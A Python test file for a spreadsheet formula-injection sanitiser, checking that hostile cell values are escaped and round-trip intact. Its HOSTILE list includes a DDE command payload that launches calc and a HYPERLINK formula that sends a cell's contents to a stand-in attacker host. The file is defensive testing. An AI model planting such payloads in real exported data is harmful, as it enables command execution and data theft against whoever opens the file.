"""No cell of a table runs in a spreadsheet, and every text comes back from its cell."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trading.kernel.cells import harmless, is_formula, original

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b =1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_spreadsheet_would_run_is_marked_and_comes_back(text: str) -> None:
    assert harmless(text).startswith("'")
    assert original(harmless(text)) == text


@pytest.mark.parametrize("text", ["", "临江市第三人民医院", "a=b", "1-2", "0.5", '["bidder"]', "b-7k3m", " plain "])
def test_a_plain_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_without_the_mark_the_hostile_texts_would_be_formulas() -> None:
    """Negative control: but for those that are marked already, each is one of those that are looked for."""
    assert all(is_formula(text) for text in HOSTILE if not text.startswith("'"))
    assert not any(is_formula(harmless(text)) for text in HOSTILE)


@given(st.text())
def test_every_text_comes_back_and_none_is_a_formula(text: str) -> None:
    assert original(harmless(text)) == text
    assert not is_formula(harmless(text))
